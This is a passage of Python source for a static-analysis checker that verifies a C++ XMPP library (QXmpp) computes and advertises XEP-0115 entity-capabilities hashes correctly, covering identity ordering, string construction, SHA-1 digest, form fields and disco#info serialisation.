            run.ok(rid, cmpf.loc(), 'ordering %s -> %s' % (rel, expected), nontrivial=(rel.count(0) >= 2))
    if bad:
        rel, vals = bad[0]
        desc = ', '.join('%s %s' % (k, {-1: 'less', 0: 'equal', 1: 'greater'}[r]) for k, r in zip(KEYS, rel))
        run.violation(rid, 'identityLessThan#not-lexicographic', cmpf.loc(),
                      'the identity comparator is not the lexicographic order on (category, type, language, name): for (%s) it returns %s (%d of 81 orderings wrong), '
                      'so equal info sets in different orders hash differently or the order differs from XEP-0115' % (desc, sorted(vals), len(bad)))
    run.instance(rid)
    if kinds_used == {'octet'}:
        run.ok(rid, cmpf.loc(), 'all key comparisons use UTF-8 byte order')
    else:
        run.violation(rid, 'identityLessThan#collation', cmpf.loc(), 'identity keys are compared in %s order; XEP-0115 requires i;octet (UTF-8 byte order), which differs for '
                                                                      'characters outside the BMP' % '/'.join(sorted(kinds_used)))
    _identity_string(prog, run, rid, f)


def _accessor_table(f):
    """(loop variable decl, [accessor names]) if the function iterates a constant array of pointers to Identity accessors"""
    for b in f.blocks.values():
        t = b.get('term')
        if not t or t.get('k') != 'rangefor' or 'range' not in t:
            continue
        r = f.nodes[f.skip(t['range'])]
        if r['k'] != 'var':
            continue
        d = f.defs().get(r['decl']) or {}
        init = f.nodes[f.skip(d['init'])] if d.get('init') is not None else None
        if init is None or init['k'] != 'initlist':
            continue
        names = []
        for e in init.get('elems', []):
            m = f.nodes[f.skip(e)]
            while m['k'] == 'un' and m.get('op') == '&':
                m = f.nodes[f.skip(m['e'])]
            q = f.cname(m) if m['k'] in ('fnref', 'methref') else ''
            if q.startswith(IDENT):
                names.append(q[len(IDENT):])
            else:
                names = None
                break
        if names:
            return t['loopvar'], names
    return None


def _joins_keys(prog, cmpf, depth=0):
    """(fn, node) of a concatenation of two or more identity keys used by the comparator (directly or in a same-file key function)"""
    for i in range(len(cmpf.nodes)):
        bo = cmpf.binop(i)
        if bo and bo[0] == '+':
            parts = _flatten(cmpf, i)
            n_keys = sum(1 for x in parts if cmpf.nodes[_strip_conv(cmpf, x)]['k'] == 'call' and cmpf.cname(cmpf.nodes[_strip_conv(cmpf, x)]).startswith(IDENT))
            if n_keys >= 2:
                return cmpf, i
    if depth < 2:
        for i, n in cmpf.calls():
            if not n.get('op'):
                for h in prog.callee_fns(cmpf, n):
                    if h.file == cmpf.file and h.entry is not None and h.id != cmpf.id:
                        r = _joins_keys(prog, h, depth + 1)
                        if r:
                            return r
    return None


def _tuple_form(prog, cmpf):
    """comparator of the form  return K(a) < K(b)  where K builds a tuple of per-identity keys: (key names in order, [is UTF-8 form], descending?)"""
    rets = [rn for _, rn in cmpf.returns()]
    if len(rets) != 1 or 'e' not in rets[0]:
        return None
    bo = cmpf.binop(cmpf.skip(rets[0]['e']))
    if not bo or bo[0] not in ('<', '>'):
        return None
    sides = []
    for x in (bo[1], bo[2]):
        n = cmpf.nodes[cmpf.skip(x)]
        if n['k'] != 'call' or n.get('op') or len(n.get('args', [])) != 1:
            return None
        a = cmpf.nodes[cmpf.skip(n['args'][0])]
        ks = prog.callee_fns(cmpf, n)
        if a['k'] != 'var' or a.get('vk') != 'param' or len(ks) != 1:
            return None
        sides.append((ks[0], a['pidx']))
    if sides[0][0].id != sides[1][0].id or sides[0][1] == sides[1][1]:
        return None
    K = sides[0][0]
    krets = [rn for _, rn in K.returns()]
    if len(krets) != 1 or 'tuple' not in (K.raw.get('ret') or K.raw.get('t') or 'tuple'):
        return None
    e = K.skip(krets[0]['e'])
    n = K.nodes[e]
    while n['k'] in ('construct', 'cast', 'icast') and len(n.get('args', [n.get('e')])) == 1 and K.nodes[K.skip((n.get('args') or [n.get('e')])[0])]['k'] in ('initlist', 'construct', 'call'):
        e = K.skip((n.get('args') or [n.get('e')])[0])
        n = K.nodes[e]
    elems = n.get('elems') if n['k'] == 'initlist' else n.get('args')
    if not elems or len(elems) < 2:
        return None
    keys, utf8 = [], []
    for el in elems:
        utf8.append(_is_utf8(K, el))
        base = K.nodes[_strip_conv(K, el)]
        if base['k'] == 'call' and K.cname(base).startswith(IDENT) and base.get('obj') is not None and K.nodes[K.skip(base['obj'])].get('vk') == 'param':
            keys.append(K.cname(base)[len(IDENT):])
        else:
            return None
    swapped = (sides[0][1] > sides[1][1]) != (bo[0] == '>')
    return keys, utf8, swapped


def _identity_string(prog, run, rid, f):
    # the appended identity string
    sdecl = _s_var(f)[0]
    apps = _appends(f, sdecl)
    run.instance(rid)
    found = False
    for cond_bid, loopvar, container, body, t in _loops(f):
        inside = sorted(((i, r) for i, r in apps if f.pos(i) and f.pos(i)[0] in body), key=lambda x: (f.nodes[x[0]].get('ln', 0), f.pos(x[0])[1], x[0]))
        if not inside or not any(IDENT in f.fmt(r, inline=False) for _, r in inside):
            continue
        found = True
        shape = []
        for i, r in inside:   # the pieces may be appended in one statement or several
            for p in _flatten(f, r):
                pn = f.nodes[p]
                if pn['k'] == 'call' and f.cname(pn).startswith(IDENT) and f.nodes[f.skip(pn['obj'])].get('decl') == loopvar:
                    shape.append(f.cname(pn)[len(IDENT):])
                elif _is_char(f, p, 47, '/'):
                    shape.append('/')
                elif _is_char(f, p, 60, '<'):
                    shape.append('<')
                else:
                    shape.append('?' + f.fmt(p, inline=False)[:20])
        if shape == ['category', '/', 'type', '/', 'language', '/', 'name', '<']:
            run.ok(rid, f.loc(inside[0][0]), 'identity string: category/type/lang/name<')
        else:
            run.violation(rid, 'verificationString#identity-string', f.loc(inside[0][0]), 'the identity is hashed as %s instead of category/type/lang/name<' % ''.join(shape))
    if not found:
        run.violation(rid, 'verificationString#identity-string', f.loc(), 'no identity string is appended')


# ---------------------------------------------------------------------------------------------------------------
def _piece_exits(prog, g, sd, scope, entry, hash_call, bad_sites, depth=0):
    """exit states of the piece/terminator typestate of g when entered in state `entry` (T terminated, O open piece, J joined by "/", BAD)"""
    apps = dict(_appends(g, sd))
    helper_calls = _helper_calls(prog, g, sd, scope) if depth < 3 else {}

    def transfer(gg, nid, st):
        if st == 'BAD':
            return None
        if nid in apps and nid not in helper_calls:
            parts = _flatten(gg, apps[nid])
            term = _is_char(gg, parts[-1], 60, '<')
            # an open piece may only be continued by a separator ("<" ends it, "/" joins the next identity key)
            if st == 'O' and not (_is_char(gg, parts[0], 60, '<') or _is_char(gg, parts[0], 47, '/')):
                bad_sites.append((gg, nid))
                return 'BAD'
            return 'T' if term else ('J' if _is_char(gg, parts[-1], 47, '/') else 'O')
        if nid in helper_calls:
            h, hsd = helper_calls[nid]
            sub = set(_piece_exits(prog, h, hsd, scope, st, None, bad_sites, depth + 1))
            if 'BAD' in sub:
                return 'BAD'
            if len(sub) == 1:
                return sub.pop()
            bad_sites.append((gg, nid))         # the helper leaves the string terminated on some paths and open on others
            return 'BAD'
        if hash_call is not None and nid == hash_call and st != 'T':
            bad_sites.append((gg, nid))
            return 'BAD'
        return None
    exits, info = cfgx.explore(g, entry, transfer, None)
    _piece_exits.states += info['states']
    return exits


_piece_exits.states = 0


def r_string(prog, run):
    rid = run.rule('C20.R3', 'every piece of the hashed string is terminated by "<" on every path, FORM_TYPE is taken out of the map and appended first, every '
                             'remaining key contributes its key and value(s); the digest is SHA-1 over the UTF-8 form', floor=6)
    f0 = prog.fn(VS)
    sdecl0, hash_call, alg_node = _s_var(f0)
    scope = _scope(prog)
    n_apps = sum(len(_appends(g, sd)) for g, sd in scope)
    bad_sites = []
    _piece_exits.states = 0
    exits = _piece_exits(prog, f0, sdecl0, scope, 'T', hash_call, bad_sites)
    run.paths += _piece_exits.states
    run.instance(rid)
    if 'BAD' in exits:
        g, nid = bad_sites[0] if bad_sites else (f0, hash_call)
        run.violation(rid, 'verificationString#separator', g.loc(nid), 'on some path a piece of the hashed string is not terminated by "<" before the next piece / the digest',
                      cfgx.describe_path(f0, exits['BAD']))
    else:
        run.ok(rid, f0.loc(), 'all %d appends keep the piece"<" discipline on all paths (%d states)' % (n_apps, _piece_exits.states))
    # FORM_TYPE first: in the function that lists the keys of the field map
    form = [(g, sd) for g, sd in scope if any(g.cname(n).endswith('::keys') for _, n in g.calls())]
    run.instance(rid)
    if not form:
        run.violation(rid, 'verificationString#form-type', f0.loc(), 'FORM_TYPE is not taken out of the field map before the remaining keys are listed')
    else:
        f, sdecl = form[0]
        apps = dict(_appends(f, sdecl))
        hcalls = _helper_calls(prog, f, sdecl, scope)
        keys_calls = [(i, n) for i, n in f.calls() if f.cname(n).endswith('::keys')]
        # removal: take("FORM_TYPE"), or erase(<iterator found for "FORM_TYPE">) / remove("FORM_TYPE")
        removed = [i for i, n in f.calls() if f.cname(n).split('::')[-1] in ('take', 'remove') and n.get('args') and f.strval(n['args'][0]) == 'FORM_TYPE']
        for i, n in f.calls():
            if f.cname(n).split('::')[-1] == 'erase' and n.get('args'):
                src = f.nodes[f.resolve(n['args'][0])]
                if src['k'] == 'call' and f.cname(src).split('::')[-1] in ('find', 'constFind') and src.get('args') and f.strval(src['args'][0]) == 'FORM_TYPE':
                    removed.append(i)
        if not removed or not keys_calls:
            run.violation(rid, 'verificationString#form-type', f.loc(), 'FORM_TYPE is not taken out of the field map before the remaining keys are listed')
        else:
            ti = removed[0]

            def is_form_type_value(r):
                t = f.fmt(r, inline=True)
                return ('take("FORM_TYPE")' in t or 'find("FORM_TYPE")' in t or 'value("FORM_TYPE")' in t or 'constFind("FORM_TYPE")' in t) and 'QXmppDataForm::Field::value()' in t
            ft_apps = [i for i in apps if is_form_type_value(apps[i])]
            # everything else the form contributes: appends and helper calls behind the FORM_TYPE test
            first_ft = min(ft_apps, key=lambda i: f.pos(i)) if ft_apps else None
            others = [i for i in list(apps) + list(hcalls) if i not in ft_apps and first_ft is not None
                      and not _same_statement(f, i, ft_apps) and (f.node_dominates(ti, i) or f.node_dominates(first_ft, i))]
            if not ft_apps:
                run.violation(rid, 'verificationString#form-type', f.loc(ti), 'the FORM_TYPE value is not appended')
            elif not all(f.node_dominates(first_ft, o) for o in others) or not all(f.node_dominates(ti, k) for k, _ in keys_calls):
                run.violation(rid, 'verificationString#form-type-first', f.loc(ft_apps[0]), 'the FORM_TYPE value is not the first piece of the form / FORM_TYPE stays among the keys')
            else:
                run.ok(rid, f.loc(ft_apps[0]), 'FORM_TYPE taken out of the map, its value appended before any other field')
    # each key contributes key and value
    run.instance(rid)
    key_loop = None
    for g, sd in scope:
        for cond_bid, loopvar, container, body, t in _loops(g):
            if container is not None and '::keys()' in (g.fmt(g.single_def(container['decl']), inline=False) if g.single_def(container['decl']) is not None else ''):
                key_loop = (g, sd, loopvar, body)
    if key_loop is None:
        run.violation(rid, 'verificationString#form-fields', f0.loc(), 'the remaining form fields are not appended')
    else:
        f, sdecl, loopvar, body = key_loop
        apps = dict(_appends(f, sdecl))
        hcalls = _helper_calls(prog, f, sdecl, scope)
        inside = [i for i in apps if f.pos(i) and f.pos(i)[0] in body]
        key_app = [i for i in inside if any(f.nodes[p].get('decl') == loopvar for p in _flatten(f, apps[i]))]
        val_app = [i for i in inside if 'QXmppDataForm::Field::value()' in f.fmt(apps[i], inline=True)]
        lookup_ok = all(('QMap<QString, QXmppDataForm::Field>::value(' in f.fmt(apps[i], inline=True)) for i in val_app)
        # a helper that is handed the string and the field looked up for this key, and appends the field's value(s)
        for i, (h, hsd) in hcalls.items():
            if f.pos(i) and f.pos(i)[0] in body and any('QXmppDataForm::Field::value()' in h.fmt(r, inline=True) for _, r in _appends(h, hsd)):
                val_app.append(i)
                lookup_ok = lookup_ok and 'QMap<QString, QXmppDataForm::Field>::value(' in f.fmt(i, inline=True)
        if not key_app:
            run.violation(rid, 'verificationString#form-fields#key', f.loc(), 'the field key is not part of the hashed string')
        elif not val_app or not lookup_ok:
            run.violation(rid, 'verificationString#form-fields#value', f.loc(), 'the field value(s) of each key are not part of the hashed string')
        else:
            # each iteration appends a value on every path: val appends cover both arms of the multi/single test
            posd = f.pdom()
            body_entry = f.pos(key_app[0])[0]
            covered = any(('b', f.pos(v)[0]) in posd.get(('b', body_entry), set()) or f.pos(v)[0] == body_entry for v in val_app)
            if not covered:
                # several arms: explore the body from the key append and require a value append before the back edge
                exits2, _ = cfgx.explore(f, 'N', lambda g, nid, st: ('K' if nid in key_app else 'V' if (nid in val_app and st == 'K') else ('MISS' if (nid in key_app and st == 'K') else None)), None)
                covered = 'MISS' not in exits2 and not any(st == 'K' for st in exits2)
            if covered:
                run.ok(rid, f.loc(key_app[0]), 'each remaining key appends key"<" and its value(s) on every path')
            else:
                run.violation(rid, 'verificationString#form-fields#value', f.loc(key_app[0]), 'on some path a key is appended without its value')
    # features appended as feature<
    run.instance(rid)
    feat = None
    for f, sdecl in scope:
        apps = dict(_appends(f, sdecl))
        for cond_bid, loopvar, container, body, t in _loops(f):
            if container is not None and f.single_def(container['decl']) is not None and 'features' in f.fmt(f.single_def(container['decl']), inline=False):
                for i in apps:
                    if f.pos(i) and f.pos(i)[0] in body:
                        parts = _flatten(f, apps[i])
                        if f.nodes[parts[0]].get('decl') == loopvar and all(_is_char(f, x, 60, '<') for x in parts[1:]):
                            feat = (f, i)     # the terminator is decided by the typestate above
    if feat is not None:
        run.ok(rid, feat[0].loc(feat[1]), 'features appended as feature"<"')
    else:
        run.violation(rid, 'verificationString#feature-string', f0.loc(), 'features are not appended as feature"<"')
    # digest
    f = f0
    run.instance(rid)
    alg = f.const_value(alg_node) if alg_node is not None else None
    if alg == ('enum', 'QCryptographicHash::Sha1'):
        run.ok(rid, f.loc(hash_call), 'QCryptographicHash::Sha1')
    else:
        run.violation(rid, 'verificationString#algorithm', f.loc(hash_call), 'the digest is %s, but the presence advertises hash="sha-1"' % (alg,))
    run.instance(rid)
    if _is_utf8(f, f.nodes[hash_call]['args'][0]):
        run.ok(rid, f.loc(hash_call), 'digest over S.toUtf8()')
    else:
        run.violation(rid, 'verificationString#encoding', f.loc(hash_call), 'the digest is not computed over the UTF-8 form of the string (%s)' % f.fmt(hash_call, inline=False)[:60])
    # the function must not modify the IQ (const) and must read the IQ's own fields
    run.instance(rid)
    srcs = set()
    for i, n in f.all_nodes('mem'):
        srcs.add(n['f'].split('::')[-1])
    if {'identities', 'features', 'form'} <= srcs:
        run.ok(rid, f.loc(), 'reads d->identities, d->features, d->form')
    else:
        run.violation(rid, 'verificationString#inputs', f.loc(), 'not all of identities/features/form are read (%s)' % sorted(srcs))


def _same_statement(f, i, others):
    """i belongs to the same append chain / statement as one of others (S.append(a).append(b) is one piece)"""
    par = f.parents()

    def top(x):
        while par.get(x) is not None and f.nodes[par[x]]['k'] in ('call', 'assign', 'cast', 'icast'):
            x = par[x]
        return x
    return any(top(i) == top(o) for o in others)


# ---------------------------------------------------------------------------------------------------------------
def r_source(prog, run):
    rid = run.rule('C20.R4', 'the advertised hash and the disco#info answer both come from QXmppDiscoveryManager::capabilities(); the answer is modified only by '
                             'setQueryNode; the hash is recomputed wherever the available client presence is emitted; the presence says sha-1', floor=6)
    ap = prog.fn('QXmppClientPrivate::addProperCapability')
    run.instance(rid)
    sv = [(i, n) for i, n in ap.calls('QXmppPresence::setCapabilityVer')]
    if not sv:
        run.violation(rid, 'addProperCapability#ver', ap.loc(), 'the presence capability ver is not set')
    else:
        t = ap.fmt(sv[0][1]['args'][0], inline=True)
        if 'QXmppDiscoveryManager::capabilities().QXmppDiscoveryIq::verificationString()' in t:
            run.ok(rid, ap.loc(sv[0][0]), 'ver = discoveryManager->capabilities().verificationString()')
        else:
            run.violation(rid, 'addProperCapability#ver-source', ap.loc(sv[0][0]), 'the advertised ver is %s, not the hash of capabilities()' % t[:80])
    # ... on every path on which the discovery manager exists (no other condition may keep a stale ver)
    run.instance(rid)
    if sv:
        def custom(f, nid, st):
            n = f.nodes[nid]
            if n['k'] == 'var' and n.get('vk') == 'local' and 'QXmppDiscoveryManager' in (n.get('t') or ''):
                return (True,)
            if n['k'] == 'call' and f.cname(n).endswith('::findExtension') and 'QXmppDiscoveryManager' in ((f.sym(n) or {}).get('targs') or n.get('t') or ''):
                return (True,)
            return None
        ev = cfgx.Evaluator(ap, {}, custom=custom)
        exits, _ = cfgx.explore(ap, 'stale', lambda f, nid, st: 'set' if nid == sv[0][0] else None, lambda f, c, st: ev.ev(c, st))
        if set(exits) == {'set'}:
            run.ok(rid, ap.loc(sv[0][0]), 'ver is recomputed on every path on which the discovery manager exists')
        else:
            run.violation(rid, 'addProperCapability#conditional-ver', ap.loc(sv[0][0]),
                          'addProperCapability keeps the ver already present in the presence on some path: a presence copied from clientPresence() keeps advertising the '
                          'hash of an earlier capability set', cfgx.describe_path(ap, exits.get('stale', [])))
    run.instance(rid)
    sh = [(i, n) for i, n in ap.calls('QXmppPresence::setCapabilityHash')]
    if sh and ap.strval(sh[0][1]['args'][0]) == 'sha-1':
        run.ok(rid, ap.loc(sh[0][0]), 'hash="sha-1"')
    else:
        run.violation(rid, 'addProperCapability#hash-name', ap.loc(), 'the presence does not advertise hash="sha-1" although the digest is SHA-1')
    # only addProperCapability sets ver
    for g, i in prog.callers_by_qname('QXmppPresence::setCapabilityVer'):
        if g.nodes[i]['k'] != 'call':
            continue
        run.instance(rid)
        top = top_function(prog, g)
        if top.qname == 'QXmppClientPrivate::addProperCapability':
            run.ok(rid, g.loc(i), 'setCapabilityVer called from addProperCapability', nontrivial=False)
        else:
            run.violation(rid, 'setCapabilityVer#caller:%s' % top.qname, g.loc(i), '%s sets the advertised capability hash' % top.display())
    # the disco#info answer
    hi = prog.fn('QXmppDiscoveryManager::handleIq')
    run.instance(rid)
    rets = []
    for r, rn in hi.returns():
        e = rn.get('e')
        if e is None:
            continue
        # the returned variant is constructed from a local
        vars_in = [hi.nodes[j] for j in hi.walk(e) if hi.nodes[j]['k'] == 'var' and hi.nodes[j].get('vk') == 'local']
        for v in vars_in:
            defs = hi.all_defs(v['decl'])
            for dd in defs:
                if 'QXmppDiscoveryManager::capabilities()' in hi.fmt(dd, inline=False):
                    rets.append((r, v))
    if not rets:
        run.violation(rid, 'handleIq#info-answer', hi.loc(), 'the disco#info answer is not built from capabilities()')
    else:
        r, v = rets[0]
        muts = []
        for i, n in hi.calls():
            if n.get('obj') is None:
                continue
            o = hi.nodes[hi.skip(n['obj'])]
            if o['k'] == 'var' and o.get('decl') == v['decl']:
                m = hi.cname(n).split('::')[-1]
                sym = hi.sym(n) or {}
                if not sym.get('const') and m not in ('setQueryNode',):
                    muts.append((i, m))
        info_case = any(c == ('enum', 'QXmppDiscoveryIq::InfoQuery') or (isinstance(c, dict) and c.get('name', '').endswith('InfoQuery'))
                        for b in hi.blocks.values() if b.get('term') and b['term'].get('k') == 'switch' for c in b['term'].get('cases', []))
        if muts:
            run.violation(rid, 'handleIq#info-answer#%s' % muts[0][1], hi.loc(muts[0][0]), 'the disco#info answer differs from the hashed capabilities: %s() is applied only to the answer' % muts[0][1])
        else:
            run.ok(rid, hi.loc(r), 'InfoQuery answer = capabilities() + setQueryNode')
    # the node filter: answers for "<node>#<ver>" are not refused
    # emission sites of the client presence
    cp = 'QXmppClientPrivate::clientPresence'
    sites = []
    for g in prog.fns.values():
        for i, n in g.calls():
            if not g.cname(n).endswith('::sendPacket') and not g.cname(n).endswith('::send'):
                continue
            for a in n.get('args', []):
                an = g.nodes[g.resolve(a)]          # also through a reference local bound to the member
                if an['k'] == 'mem' and an.get('f') == cp:
                    sites.append((g, i))
    # a function that stores a new client presence must put that stored presence (whose hash was just recomputed) on the wire, not another presence object
    for g in prog.fns.values():
        if not g.file.endswith('QXmppClient.cpp') or g.raw.get('dependent'):
            continue
        stores = [i for i, n in g.all_nodes('assign') if g.nodes[g.skip(n['l'])].get('f') == cp] + \
                 [i for i, n in g.calls() if n.get('op') == '=' and n.get('opargs') and g.nodes[g.skip(n['opargs'][0])].get('f') == cp]
        if not stores:
            continue
        for i, n in g.calls():
            if not (g.cname(n).endswith('::sendPacket') or g.cname(n).endswith('::send')) or not n.get('args'):
                continue
            an = g.nodes[g.skip(n['args'][0])]
            if 'QXmppPresence' in (an.get('t') or '') and not (an['k'] == 'mem' and an.get('f') == cp):
                run.instance(rid)
                run.violation(rid, 'clientPresence-emission#%s#other-object' % top_function(prog, g).qname, g.loc(i),
                              '%s stores the new client presence and recomputes its capability hash, but sends %s: what goes on the wire carries the ver the caller happened to pass '
                              '(stale or none), not the hash of the current capabilities' % (top_function(prog, g).display()[:50], g.fmt(n['args'][0])[:40]))
    if len(sites) < 2:
        raise AnalysisBroken('C20.R4: only %d emission sites of d->clientPresence found' % len(sites))
    for g, i in sites:
        run.instance(rid)
        recompute = [j for j, m in g.calls('QXmppClientPrivate::addProperCapability') if g.node_dominates(j, i)]
        # unavailable presences carry no usable capabilities
        unavailable = [j for j, m in g.calls('QXmppPresence::setType') if g.const_value(m['args'][0]) == ('enum', 'QXmppPresence::Unavailable')
                       and g.nodes[g.skip(m['obj'])].get('f') == cp and g.node_dominates(j, i)]
        un_guard = any('QXmppPresence::Unavailable' in g.fmt(c, inline=True) and 'QXmppPresence::type()' in g.fmt(c, inline=True) and
                       ((p is True and g.binop(g.skip(c)) and g.binop(g.skip(c))[0] == '==') or (p is False and g.binop(g.skip(c)) and g.binop(g.skip(c))[0] == '!='))
                       for c, p in g.atomic_assertions_at(i))
        top = top_function(prog, g)
        # ... and nothing that runs application / manager code (a signal emission) lies between the recomputation and the emission: such code may register an
        # extension or change the identity, which the disco#info answer reflects at once
        stale_path = None
        if recompute:
            def event_of(h, nid, site=i):
                m = h.nodes[nid]
                if m['k'] != 'call':
                    return None
                if nid == site and h.id == g.id:
                    return 'send'
                if (h.cname(m) or '') == 'QXmppClientPrivate::addProperCapability':
                    return 'cap'
                if (h.sym(m) or {}).get('signal'):
                    return 'emit:' + (h.sym(m) or {}).get('name', '?')
                return None
            for q in cfgx.effect_sequences(prog, g, event_of, follow=lambda h: False):
                if 'send' not in q:
                    continue
                k = q.index('send')
                caps = [x for x in range(k) if q[x] == 'cap']
                between = [e for e in q[(caps[-1] + 1) if caps else 0:k] if e.startswith('emit:')]
                if between:
                    stale_path = (q, between[0][5:])
        if recompute and stale_path:
            run.violation(rid, 'clientPresence-emission#%s#handlers-between' % top.qname, g.loc(i),
                          '%s recomputes the capability hash, then emits %s() and only then sends the presence (effect order %s): whatever a handler of that signal changes in the '
                          'client\'s extensions or identity is answered in disco#info but missing from the advertised hash' % (top.display()[:50], stale_path[1], list(stale_path[0])))
        elif recompute:
            run.ok(rid, g.loc(i), '%s: addProperCapability(d->clientPresence) precedes the emission' % top.display()[:50])
        elif unavailable or un_guard:
            run.ok(rid, g.loc(i), '%s: unavailable presence (capabilities not advertised to anyone online)' % top.display()[:50], nontrivial=False)
        else:
            run.violation(rid, 'clientPresence-emission#%s#stale-hash' % top.qname, g.loc(i),
                          '%s sends the stored client presence with the hash computed earlier: extensions or identity data registered since then are answered '
                          'in disco#info but not covered by the advertised hash' % top.display())


def r_multi(prog, run):
    rid = run.rule('C20.R5', 'every multi-valued data form field type reaches the sorted, "<"-joined branch of the hashed string (none of them is hashed through the single-value '
                             'conversion, which yields an empty string for a list)', floor=2)
    f = None
    for g, sd in _scope(prog):
        if any(g.cname(n).endswith('::join') for _, n in g.calls()):
            f = g           # the function (verificationString or a helper it hands the string to) that decides single / multi value
    if f is None:
        raise AnalysisBroken('C20.R5: join not found in verificationString')
    joins = [i for i, n in f.calls() if f.cname(n).endswith('::join')]
    en = prog.enum('QXmppDataForm::Field::Type')
    multi = [e['name'] for e in en['enumerators'] if 'Multi' in e['name']]
    if len(multi) < 2:
        raise AnalysisBroken('C20.R5: multi-valued field types not found in QXmppDataForm::Field::Type')
    for name in multi:
        run.instance(rid)
        qn = 'QXmppDataForm::Field::' + name
        ev = cfgx.Evaluator(f, {'QXmppDataForm::Field::type': ('enum', qn)},
                            custom=lambda g, nid, st: (False,) if g.nodes[nid]['k'] == 'call' and g.cname(g.nodes[nid]) in ('QXmppDataForm::isNull',) else None)
        visits = {}
        cfgx.explore(f, (), None, lambda g, c, st: ev.ev(c, st), record_visits=visits)
        if any(f.pos(j) and f.pos(j)[0] in visits for j in joins):
            run.ok(rid, f.loc(joins[0]), '%s values reach the sorted join' % name)
        else:
            run.violation(rid, 'verificationString#multi-value#%s' % name, f.loc(joins[0]),
                          'a %s field never reaches the sorted join: its values are hashed through the single-value conversion (empty for a list), so they do not influence the '
                          'verification string' % name)


def r_reply(prog, run):
    rid = run.rule('C20.R6', 'the disco#info serialiser writes one element for every identity and every feature the hash covers: no path through the body of its identity / feature '
                             'loop skips the element (an entry that is hashed but not sent makes every verifier reject the advertised hash)', floor=2)
    f = prog.fn('QXmppDiscoveryIq::toXmlElementFromChild')
    dom = f.dom()
    found = set()
    for b in f.blocks.values():
        t = b.get('term')
        if not t or t.get('k') != 'rangefor' or b['succs'][0] is None:
            continue
        rng = f.fmt(t['range'])
        what = 'identities' if 'identities' in rng else 'features' if 'features' in rng else None
        if what is None:
            continue
        found.add(what)
        entry = b['succs'][0]
        body = {x for x in f.blocks if ('b', entry) in dom.get(('b', x), set())}
        want = 'identity' if what == 'identities' else 'feature'
        writes = {f.pos(i)[0] for i, n in f.calls() if f.cname(n).endswith('::writeStartElement') and n.get('args') and f.strval(n['args'][0]) == want
                  and f.pos(i) and f.pos(i)[0] in body}
        run.instance(rid)
        if not writes:
            run.violation(rid, 'toXmlElementFromChild#%s#not-written' % what, f.loc(t['range']), 'the loop over the %s writes no <%s/> element' % (what, want))
            continue
        w = cfgx.path_avoiding(f, entry, b['id'], writes, None, within=body) if entry != b['id'] else None
        if w is None:
            run.ok(rid, f.loc(t['range']), 'every one of the %s is written as <%s/>' % (what, want))
        else:
            last = f.blocks[w[-1]]
            run.violation(rid, 'toXmlElementFromChild#%s#skipped' % what, f.loc(last['elems'][-1] if last['elems'] else t['range']),
                          'on some path through the loop an entry of the %s is not written although verificationString() hashes it: the disco#info answer no longer hashes to the '
                          'advertised ver' % what)
    for need in ('identities', 'features'):
        if need not in found:
            run.instance(rid)
            run.violation(rid, 'toXmlElementFromChild#%s#missing' % need, f.loc(), 'the %s are not serialised by a loop over the stored list' % need)


# --------------------------------------------------------------------------- R7: the form that is hashed is the form that was received
def r_form_as_received(prog, run):
    from . import C01
    rid = run.rule('C20.R7', 'the extension form whose values are hashed is the form as it was received: QXmppDataForm::parse stores every <value/> it reads, in order and as it is - '
                             'it neither removes, de-duplicates or reorders the collected values (= C01.R10) nor trims / case-folds them (= C01.R13); XEP-0115 hashes every value, so '
                             'a parser that drops a repeated value makes the hash blind to it', floor=1)
    fns = [f for f in prog.fns.values() if f.file.endswith('QXmppDataForm.cpp')]
    if not any(f.qname == 'QXmppDataForm::parse' for f in fns):
        raise AnalysisBroken('C20.R7: QXmppDataForm::parse not found')
    found = [x for x in C01._reader_shape_findings(prog, fns) if x[0] in ('R10', 'R13')]
    run.instance(rid)
    if found:
        r, f, i, key, msg = found[0]
        run.violation(rid, 'QXmppDataForm::parse#%s' % key.split('#')[-1], f.loc(i), 'the verification string is computed over a form that is not the received one: ' + msg)
    else:
        run.ok(rid, 'src/base/QXmppDataForm.cpp', 'field values are stored as read (C01.R10 / R13 clauses hold for the data form parser)')


# --------------------------------------------------------------------------- R8: the manager that is hashed is the manager that answers
def r_same_manager(prog, run):
    rid = run.rule('C20.R8', 'the discovery manager whose capabilities are hashed into the presence is the one that answers disco#info: findExtension<T>() returns the first match in '
                             'list order, the order in which received stanzas are offered to the extensions (with a second discovery manager registered, a last-match look-up '
                             'would hash one manager and let the other answer)', floor=1)
    fes = [f for f in prog.fns.values() if f.qname == 'QXmppClient::findExtension' and f.entry is not None and not f.raw.get('dependent') and 'QXmppDiscoveryManager' in (f.targs or '')]
    if not fes:
        fes = [f for f in prog.fns.values() if f.qname == 'QXmppClient::findExtension' and f.entry is not None and not f.raw.get('dependent')][:1]
    if not fes:
        raise AnalysisBroken('C20.R8: no instantiation of QXmppClient::findExtension found')
    f = fes[0]
    run.instance(rid)
    backwards = [i for i, n in f.calls() if (f.sym(n) or {}).get('name') in ('rbegin', 'crbegin', 'rend', 'crend', 'last', 'constLast', 'back', 'takeLast')
                 or (f.cname(n) or '') in ('std::reverse', 'std::make_reverse_iterator', 'std::ranges::reverse', 'std::views::reverse', 'std::find_end')]
    backwards += [i for i, n in enumerate(f.nodes) if n['k'] == 'un' and n.get('op') in ('pre--', 'post--')]
    forward = any((b.get('term') or {}).get('k') == 'rangefor' for b in f.blocks.values()) or \
        any((f.sym(n) or {}).get('name') in ('begin', 'cbegin', 'constBegin') or (f.cname(n) or '') in ('std::find_if', 'std::ranges::find_if') for _, n in f.calls()) or \
        any(n['k'] == 'un' and n.get('op') in ('pre++', 'post++') for n in f.nodes)
    if backwards:
        run.violation(rid, 'findExtension#last-match', f.loc(backwards[0]),
                      'QXmppClient::findExtension%s walks the extension list from the back (%s): the presence hash is computed from the last discovery manager while stanzas are '
                      'offered front to back and the first one answers disco#info' % ((f.targs or '')[:40], f.fmt(backwards[0], inline=False)[:40]))
    elif forward:
        run.ok(rid, f.loc(), 'findExtension returns the first match in list order')
    else:
        raise AnalysisBroken('C20.R8: the iteration of findExtension has a form the checker does not know')
