"""C20 — the entity-capabilities hash is the XEP-0115 value, order- and duplicate-blind (structural clauses)."""
import itertools

from .. import cfgx
from ..build import AnalysisBroken
from ..effects import top_function

UNITS = ['base/QXmppDiscoveryIq.cpp', 'client/QXmppDiscoveryManager.cpp', 'client/QXmppClient.cpp']
VS = 'QXmppDiscoveryIq::verificationString'
IDENT = 'QXmppDiscoveryIq::Identity::'
KEYS = ['category', 'type', 'language', 'name']
NON_MUTATING = ('begin', 'end', 'constBegin', 'constEnd', 'cbegin', 'cend', 'size', 'count', 'isEmpty', 'join', 'contains', 'at', 'value', 'keys',
